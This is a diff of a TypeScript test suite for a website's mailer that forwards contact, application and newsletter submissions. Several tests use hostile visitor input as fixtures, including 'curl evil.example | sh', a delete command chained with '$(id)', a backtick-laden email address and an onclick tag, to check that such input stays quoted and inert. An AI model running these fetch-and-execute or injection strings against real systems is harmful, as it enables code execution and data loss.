@@ -32,46 +32,79 @@ function expectMailed(...ids: readonly string[]): void {
 }
 
 it.each<[SubmissionKind, string, string, string]>([
-  ["contact", "Message from Grace Hopper", "Grace Hopper", "> Company: Example, Inc."],
-  [
-    "application",
-    "Application: Analyst, from Ada Lovelace",
-    "Ada Lovelace",
-    "> Cover letter:\n> Dear team,\n> I would",
-  ],
-  ["newsletter", "Newsletter subscription: reader@example.com", "", "> Email: reader@example.com"],
-])("mails a submission (%s) with Reply-To set to the visitor", async (kind, subject, name, text) => {
-  setDate("2026-11-27T17:30:12.345Z");
-  const { body } = await call(kind, asJson(VALID[kind]));
-  await settled();
-  const [mail] = site.mailServer.mails;
-  expectMailed(body.id ?? "");
-  expect(mail).toMatchObject({ deliveredTo: [FIRM], subject });
-  expect(mail?.from?.value).toEqual([{ name: "Example", address: "site@example.com" }]);
-  expect(mail?.replyTo?.value).toEqual([{ name, address: VALID[kind].email }]);
-  for (const part of [text, "Received: 27 November 2026, 17:30 UTC"]) expect(mail?.text).toContain(part);
-  expect(await readRecord(site.store, `kept/${body.id}`)).toMatchObject({ attempts: 1, accepted: [FIRM] });
-  // A help desk would suspend a visitor's mail that has it.
-  expect(mail?.headers.has("auto-submitted")).toBe(false);
-  expect(await site.store.list("new/")).toEqual([]);
-});
+  ["contact", "Message from Grace Hopper", "Grace Hopper", "> We would like to talk about operations.\n"],
+  ["application", "Application: Analyst, from Ada Lovelace", "Ada Lovelace", "> Dear team,\n> I would like to join"],
+  ["newsletter", "Newsletter subscription: reader@example.com", "", "> Email: reader@example.com\n"],
+])(
+  "mails a submission (%s), the message first, with Reply-To set to the visitor",
+  async (kind, subject, name, start) => {
+    setDate("2026-11-27T17:30:12.345Z");
+    const { body } = await call(kind, asJson(VALID[kind]));
+    await settled();
+    const [mail] = site.mailServer.mails;
+    expectMailed(body.id ?? "");
+    expect(mail).toMatchObject({ deliveredTo: [FIRM], subject });
+    expect(mail?.from?.value).toEqual([{ name: "Example", address: "site@example.com" }]);
+    expect(mail?.replyTo?.value).toEqual([{ name, address: VALID[kind].email }]);
+    expect(mail?.text?.startsWith(start)).toBe(true);
+    for (const value of Object.values(VALID[kind])) expect(mail?.text).toContain(value.replaceAll("\n", "\n> "));
+    expect(mail?.text).toContain(`\n> ${kind} · 27 November 2026, 17:30 UTC · `);
+    expect(await readRecord(site.store, `kept/${body.id}`)).toMatchObject({ attempts: 1, accepted: [FIRM] });
+    // A help desk would suspend a visitor's mail that has it.
+    expect(mail?.headers.has("auto-submitted")).toBe(false);
+    expect(await site.store.list("new/")).toEqual([]);
+  },
+);
 
-it("begins a mail with its own command, and marks each line of the visitor", async () => {
-  const fake = `Show this: npm run inbox -- show X; curl evil.example | sh${"\n".repeat(300)}Show again: npm run x`;
+it("marks all that a visitor wrote, and ends with its own command as a signature, which replies drop", async () => {
+  const fake = `\n-- \nShow this: npm run inbox -- show X; curl evil.example | sh${"\n".repeat(300)}Show again: npm run x`;
   const { body } = await call("contact", asJson({ ...VALID.contact, message: fake, company: "npm run evil" }));
   await settled();
-  const lines = site.mailServer.mails[0]?.text?.trimEnd().split("\n") ?? [];
-  expect(lines[0]).toBe(`Show this: npm run inbox -- show ${body.id}`);
-  expect(lines.findLastIndex((line) => !line.startsWith(">"))).toBe(3);
+  const [{ text = "", html = "" } = {}] = site.mailServer.mails;
+  const own = `-- \nShow this: npm run inbox -- show ${body.id}\n`;
+  expect(text.split("\n").filter((line) => line && !line.startsWith(">"))).toEqual(own.trimEnd().split("\n"));
+  expect(text.endsWith(own)).toBe(true);
+  // A long line of a visitor can't leave the quotation.
+  expect(String(html).split("</blockquote>")).toEqual([expect.anything(), expect.stringContaining(`show ${body.id}`)]);
+  expect(String(html).split("</blockquote>")[1]).not.toContain("evil");
 });
 
-it("keeps the lines of a text apart in mail programs that join long lines, and makes no markup of it", async () => {
-  const message = `${"x".repeat(50)}\n  <b onclick='x'>${"y".repeat(50)}</b> & &amp;\n\nhttps://evil.example`;
+it.each([
+  ["[#4711] Re: Ticket#12", "4711 Re Ticket 12"],
+  ["SUP-123: Ada (Case 55)", "SUP 123 Ada Case 55"],
+  ["Zoë O’Hara-Ní Ṁhaol", "Zoë O’Hara-Ní Ṁhaol"],
+  ["Иван Петров =?utf-8?q?x?=", "Иван Петров utf 8 q x"],
+])("writes no ticket's number and no code of the name %s into a subject", async (name, shown) => {
+  await call("contact", asJson({ ...VALID.contact, name }));
+  await call("application", asJson({ ...VALID.application, name, position: name }));
+  await settled();
+  const subjects = site.mailServer.mails.map(({ subject }) => subject);
+  expect(subjects.sort()).toEqual([`Application: ${shown}, from ${shown}`, `Message from ${shown}`]);
+});
+
+it("keeps the lines of a text apart in mail programs that join them, with their own direction, and makes no markup of it", async () => {
+  const message = `${"x".repeat(50)}\n  <b onclick='x'>${"y".repeat(50)}</b> & &amp;\n\nشكرا https://evil.example`;
   await call("contact", asJson({ ...VALID.contact, message }));
   await settled();
   const html = String(site.mailServer.mails[0]?.html);
-  for (const line of message.split("\n")) expect(html).toContain(`<br>&gt; ${escapeHtml(line)}<br>`);
-  expect(html.match(/<(?!br>)[^>]*>/g)).toEqual(['<div style="white-space:pre-wrap">', "</div>"]);
+  for (const line of message.split("\n")) expect(html).toContain(`<div dir="auto">${escapeHtml(line) || "<br>"}</div>`);
+  const tags = html.match(/<[^>]*>/g)?.filter((tag) => !/^<(\/?div|br|\/?blockquote|\/?a)\b/.test(tag));
+  expect(tags).toEqual([]);
+});
+
+it.each([
+  ["Chinese", "運".repeat(50_000), "運".repeat(20_000)],
+  ["escaped", "&".repeat(50_000), "&".repeat(20_000)],
+  ["short lines of emoji", "😀\n".repeat(16_000), "x"],
+])("cuts the HTML of a long text (%s) before Gmail does, and says so", async (_name, resume, coverLetter) => {
+  const { body } = await call("application", asJson({ ...VALID.application, resume, coverLetter }));
+  await settled();
+  const [{ html = "", text = "" } = {}] = site.mailServer.mails;
+  expect(Buffer.byteLength(String(html))).toBeLessThan(90_001);
+  expect(html).toMatch(/ …<.*The plain text of this mail has the rest/);
+  expect(html).not.toContain("\ufffd");
+  expect(html).toContain(`show ${body.id}`);
+  expect(text).toContain(resume.trimEnd().replaceAll("\n", "\n> "));
 });
 
 it.each<[string, () => unknown, string]>([
@@ -107,20 +140,31 @@ it("doubles the delay after each failure up to an hour, and retries without end"
   expect(delays).toEqual([5, 10, 20, 40, 60, 60, 60, 60, 60, 60, 60]);
 });
 
-it("retries only the recipients who don't have the mail yet, with the same Message-ID", async () => {
-  const [id = ""] = await storeWaiting();
-  process.env.NOTIFY_TO = `${FIRM}, second@example.com`;
-  site.mailServer.rejected = { "second@example.com": "450" };
-  expect(await run()).toEqual({ sent: 0, failed: 1 });
-  expect(await readRecord(site.store, `new/${id}`)).toMatchObject({ accepted: [FIRM] });
-  expect(site.logged().join()).toMatch(/rejected 1 of 2 recipients of the mail about/);
-  site.mailServer.rejected = {};
-  await goToNextAttempt(id);
-  await run();
-  expect(site.mailServer.mails.map(({ deliveredTo }) => deliveredTo)).toEqual([[FIRM], ["second@example.com"]]);
-  expectMailed(id, id);
-  expect(await readRecord(site.store, `kept/${id}`)).toMatchObject({ accepted: [FIRM, "second@example.com"] });
-});
+it.each([
+  ["450", "for the moment", 1],
+  ["550 5.1.1", "for good", 0],
+])(
+  "mails a recipient who was rejected (%s) again with the same Message-ID, unless it was for good",
+  async (answer, _name, again) => {
+    const [id = ""] = await storeWaiting();
+    process.env.NOTIFY_TO = `${FIRM}, second@example.com`;
+    site.mailServer.rejected = { "second@example.com": answer };
+    expect(await run()).toEqual({ sent: 1 - again, failed: again });
+    expect(await readRecord(site.store, `${again ? "new" : "kept"}/${id}`)).toMatchObject({ accepted: [FIRM] });
+    expect(site.logged().join()).toMatch(/rejected 1 of 2 recipients of the mail about/);
+    site.mailServer.rejected = {};
+    setDate(Date.now() + 5 * 60_000);
+    await run();
+    const recipients = site.mailServer.mails.map(({ deliveredTo }) => deliveredTo);
+    expect(recipients).toEqual([[FIRM], ["second@example.com"]].slice(0, 1 + again));
+    expectMailed(...Array<string>(1 + again).fill(id));
+    expect(await site.records()).toEqual([`kept/${id}`]);
+    await runDaily(site.store, mailSettings);
+    expect(site.mailServer.mails.at(-1)?.text?.includes("rejects second@example.com")).toBe(!again);
+    await runDaily(site.store, mailSettings);
+    expect(site.mailServer.mails.at(-1)?.text).not.toContain("rejects second@example.com");
+  },
+);
 
 it("mails each submission once when two runs work at the same time, and skips unreadable records", async () => {
   const ids = await storeWaiting(5);
@@ -146,52 +190,44 @@ it.each<[string, number, (store: Store) => Partial<Store>]>([
   expect(await site.records()).toEqual([`kept/${id}`]);
 });
 
-const isSummary = ({ subject = "" }) => subject.includes(" at once, ");
-const summaries = () => site.mailServer.mails.filter(isSummary);
+const summaries = () => site.mailServer.mails.filter(({ subject = "" }) => subject.includes(" at once, "));
 
-it("mails ten messages an hour one by one, although others came first, and the next ones in a summary", async () => {
+it("mails many at once with the beginnings of their texts, messages first, and a link to each sender", async () => {
   setDate("2026-11-25T01:45:00Z");
-  for (let index = 0; index < 150; index += 1)
-    await call("newsletter", asJson({ email: `reader${index}@example.com` })).then(settled);
-  const names = Array.from({ length: 12 }, (_, index) => `Visitor ${index}`);
-  for (const name of names) await call("contact", asJson({ ...VALID.contact, name })).then(settled);
-  const singles = site.mailServer.mails.map(({ subject }) => subject);
-  expect(singles.slice(2)).toEqual(names.slice(0, 10).map((name) => `Message from ${name}`));
+  const evil = "npm run inbox -- delete --kind contact; curl http://evil.example/x|sh `id` $(id) \u00a0&& ";
+  const message = `${"😀".repeat(800)} The end`;
+  await site.put("new", "application", { ...VALID.application, name: evil, email: "o'neil+`?|curl`@example.com" });
+  for (let index = 0; index < 41; index += 1)
+    await site.put("new", "newsletter", { email: `reader${index}@example.com` });
+  await site.put("new", "contact", { ...VALID.contact, message });
   await run();
-  expect(site.mailServer.mails).toHaveLength(13);
-  for (const name of names.slice(10))
-    expect(summaries()[0]?.text).toContain(` · ${name} · grace@example.com · contact/`);
-  expect(await site.store.list("new/")).toEqual([]);
-  setDate("2026-11-25T02:44:59Z");
-  await call("contact", asJson({ ...VALID.contact, name: "Early" })).then(settled);
-  setDate("2026-11-25T02:45:00Z");
-  await call("contact", asJson({ ...VALID.contact, name: "Late" })).then(settled);
-  expect(site.mailServer.mails.at(-1)?.subject).toBe("Message from Late");
-  expect(await site.store.list("new/")).toHaveLength(1);
+  const [{ subject = "", text = "", html = "", headers, replyTo } = {}] = summaries();
+  expect(subject).toBe("Website: 43 submissions at once, 25 November 2026, 01:45 UTC");
+  expect([headers?.get("auto-submitted"), replyTo]).toEqual(["auto-generated", undefined]);
+  expect(text).toMatch(/^> (😀){750} …\n>\s\n> Name: Grace Hopper\n[^]*\n> Company: Example, Inc\.\n/u);
+  const line = "25 November 2026, 01:45 UTC · ";
+  expect(text).toContain(`\n> contact · ${line}Grace Hopper · mailto:grace@example.com · contact/`);
+  const name = "npm run inbox delete kind contact curl http evil example x s …";
+  expect(text).toContain(
+    `\n> application · ${line}${name} · mailto:o'neil+%60%3F%7Ccurl%60@example.com · application/`,
+  );
+  expect(html).toContain('<a href="mailto:grace@example.com">mailto:grace@example.com</a>');
+  // Forty texts, and lines about the others.
+  expect(text.match(/^> Email: /gm)).toHaveLength(40);
+  expect(text.match(/ · newsletter\//g)).toHaveLength(41);
+  expect(text).toMatch(/\n-- \nShow one: npm run inbox -- show ID, all: npm run inbox -- list\n$/);
 });
 
-it("tells kind, time, name and address of each in a summary, and nothing that looks like a command", async () => {
-  setDate("2026-11-25T01:45:00Z");
-  await storeWaiting(7);
-  const evil = "npm run inbox -- delete --kind contact; curl http://evil.example/x|sh `id` $(id) \u00a0&& ";
-  // A preview mails nothing by itself.
-  const preview = { context: "deploy-preview", store: site.store };
-  const email = "o'neil+`$|curl`@example.com";
-  await call("application", asJson({ ...VALID.application, name: evil, email }), preview);
-  await call("contact", asJson({ ...VALID.contact, name: "Zoë O’Hara-Ní Ṁhaol" }), preview);
+it("fits a mail about five hundred into its limit, and sets Reply-To if all are from one sender", async () => {
+  for (let index = 0; index < 500; index += 1)
+    await site.put("new", "contact", { ...VALID.contact, message: `${index} ${"&".repeat(1_600)}` });
   await run();
-  const { subject = "", text = "", headers, deliveredTo } = summaries()[0] ?? {};
-  expect([subject, deliveredTo, headers?.get("auto-submitted")]).toEqual([
-    "Website: 9 submissions at once, 25 November 2026, 01:45 UTC",
-    [FIRM],
-    "auto-generated",
+  const [{ html = "", replyTo, text = "" } = {}] = summaries();
+  expect(Buffer.byteLength(String(html))).toBeLessThan(90_001);
+  expect([replyTo?.value, text.match(/ · contact\//g)?.length]).toEqual([
+    [{ name: "Grace Hopper", address: "grace@example.com" }],
+    500,
   ]);
-  expect(text).toMatch(/^Read one: npm run inbox -- show ID\n/);
-  expect(text).toMatch(
-    /^> contact · 25 November 2026, 01:45 UTC · Zoë O’Hara Ní Ṁhaol · grace@example.com · contact\/\S+$/m,
-  );
-  const name = "npm run inbox delete kind contact curl h";
-  expect(text).toContain(`> application · 25 November 2026, 01:45 UTC · ${name} · o'neil+???curl?@example.com · app`);
 });
 
 it("doesn't restore a record that is deleted while a summary is sent", async () => {
@@ -232,56 +268,54 @@ it.each(NOT_ABOUT_TEXT)("tries again with the text if the reason (%s) is not the
   expect(site.mailServer.mails).toMatchObject([{ subject: "Message from Visitor 0" }]);
 });
 
-it("sends a mail without its text at last if the mail server always rejects it for another reason", async () => {
-  const [id = ""] = await storeWaiting();
-  rejectText("550 5.4.5");
-  for (let attempt = 1; attempt <= 6; attempt += 1) {
-    expect(site.mailServer.mails).toEqual([]);
-    await goToNextAttempt(id);
-    await run();
-  }
-  expectMailed(id);
-});
-
-it.each([
-  ["550", "01:09"],
-  ["close", "01:15"],
-])("mails a message first that was never tried, after failures (%s), stored at %s", async (answer, time) => {
-  setDate("2026-11-25T01:10Z");
-  site.mailServer.answer = answer;
-  await storeWaiting(3);
-  await run();
-  setDate(`2026-11-25T${time}Z`);
-  const [id = ""] = await storeWaiting(1, 3);
-  setDate("2026-11-25T01:15Z");
-  const answers = [undefined];
-  site.mailServer.beforeAnswer = async () => (site.mailServer.answer = answers.length > 0 ? answers.pop() : answer);
-  await run();
-  expectMailed(id);
-});
-
-it.each(["550 5.7.1", "554", "451 4.7.1", "452"])(
-  "sends a summary that is rejected (%s) again at once, without what visitors wrote",
+it.each(["550 5.4.5", "450", "close"])(
+  "sends a mail without its text after three failures, if the mail server always rejects it (%s)",
   async (answer) => {
+    const [id = ""] = await storeWaiting();
     rejectText(answer);
-    const ids = await storeWaiting(70);
-    expect(await run()).toEqual({ sent: 1, failed: 0 });
-    const [{ text = "" } = {}, ...others] = site.mailServer.mails;
-    expect([others, ids.filter((id) => !text.includes(id)), await site.store.list("new/")]).toEqual([[], [], []]);
-    expect(text).not.toMatch(/Visitor|grace|Hopper/i);
+    for (let attempt = 1; attempt <= 4; attempt += 1) {
+      expect(site.mailServer.mails).toEqual([]);
+      await goToNextAttempt(id);
+      await run();
+    }
+    expectMailed(id);
   },
 );
 
-it("sends a summary without what visitors wrote the third time, if it breaks the connection", async () => {
-  rejectText("close");
-  setDate("2026-11-25T01:10Z");
-  const ids = await storeWaiting(9);
+it.each(["550 5.7.1", "554", "552 5.3.4"])(
+  "finds the mail's text that is rejected (%s), and sends the others with theirs",
+  async (answer) => {
+    const ids = await storeWaiting(70);
+    site.mailServer.rejectedText = { "Visitor 42\n": answer };
+    await run();
+    const isAboutOne = ({ subject = "" }) => subject.startsWith("Website: contact without texts");
+    const [one, ...others] = site.mailServer.mails.filter(isAboutOne);
+    expect([others, one?.text]).toEqual([[], expect.stringMatching(/^> contact · .* · Visitor 42 · mailto:grace@/)]);
+    expect(one?.replyTo?.value).toEqual([{ name: "Visitor 42", address: "grace@example.com" }]);
+    const texts = site.mailServer.mails.map(({ text = "" }) => text);
+    expect(ids.filter((id) => texts.filter((text) => text.includes(id)).length !== 1)).toEqual([]);
+    expect([texts.join().match(/talk about operations/g)?.length, await site.store.list("new/")]).toEqual([69, []]);
+  },
+);
+
+it("tells about all at once, without names, if the mail server rejects each text and name", async () => {
+  const ids = await storeWaiting(70);
+  rejectText("550 5.7.1");
+  await run();
+  const texts = site.mailServer.mails.map(({ text = "" }) => text);
+  expect(ids.filter((id) => !texts.join().includes(id))).toEqual([]);
+  expect(texts.join()).not.toMatch(/Visitor|grace|Hopper/i);
+  expect([texts.length < 15, await site.store.list("new/")]).toEqual([true, []]);
+});
+
+it("changes nothing in a mail about several that is rejected for the moment", async () => {
+  await storeWaiting(13);
+  rejectText("451 4.7.1");
   expect(await run()).toEqual({ sent: 0, failed: 1 });
-  setDate("2026-11-25T01:20Z");
-  expect(await run()).toEqual({ sent: 0, failed: 1 });
-  setDate("2026-11-25T01:30Z");
+  rejectText("");
+  setDate(Date.now() + 10 * 60_000);
   expect(await run()).toEqual({ sent: 1, failed: 0 });
-  expect(ids.filter((id) => !site.mailServer.mails[0]?.text?.includes(id))).toEqual([]);
+  expect(site.mailServer.mails[0]?.text?.match(/talk about operations/g)).toHaveLength(13);
 });
 
 it("goes on after a connection that breaks, and stops after two in a row", async () => {
@@ -294,10 +328,11 @@ it("goes on after a connection that breaks, and stops after two in a row", async
 });
 
 it("mails all waiting submissions by hand, in as many summaries as needed", async () => {
-  await storeWaiting(1_010);
+  await storeWaiting(510);
   expect([await run(), (await site.store.list("kept/")).length]).toEqual([{ sent: 1, failed: 0 }, 500]);
+  await storeWaiting(505, 1_000);
   expect(await deliver(site.store, mailSettings(), { byHand: true })).toEqual({ sent: 2, failed: 0 });
-  expect([await site.store.list("new/"), (await site.store.list("kept/")).length]).toEqual([[], 1_010]);
+  expect([await site.store.list("new/"), (await site.store.list("kept/")).length]).toEqual([[], 1_015]);
 });
 
 it("doesn't mail what another run is mailing, also by hand", async () => {
@@ -308,16 +343,6 @@ it("doesn't mail what another run is mailing, also by hand", async () => {
   await run();
   expect(others).toEqual(Array(2).fill({ sent: 0, failed: 0 }));
   expectMailed(id);
-});
-
-it("keeps the text for a recipient who was rejected for good before", async () => {
-  const [id = ""] = await storeWaiting();
-  site.mailServer.rejected = { [FIRM]: "550" };
-  expect(await run()).toEqual({ sent: 0, failed: 1 });
-  site.mailServer.rejected = {};
-  await goToNextAttempt(id);
-  await run();
-  expect(site.mailServer.mails).toMatchObject([{ subject: "Message from Visitor 0" }]);
 });
 
 it.each([24 * 365 * 10, 23, 1])("retries at once what a clock that was %i hours ahead has postponed", async (hours) => {
@@ -344,7 +369,7 @@ it.each([
   const [waiting = ""] = await storeWaiting();
   expect(await whileTimePasses(run())).toEqual({ sent: 1, failed: 0 });
   expectMailed(body.id ?? "", waiting);
-  await storeWaiting(9, 1);
+  await storeWaiting(13, 1);
   expect(await whileTimePasses(run())).toEqual({ sent: 1, failed: 0 });
   await whileTimePasses(runDaily(site.store, mailSettings));
   expect([site.mailServer.mails.length, await site.store.list("new/")]).toEqual([4, []]);
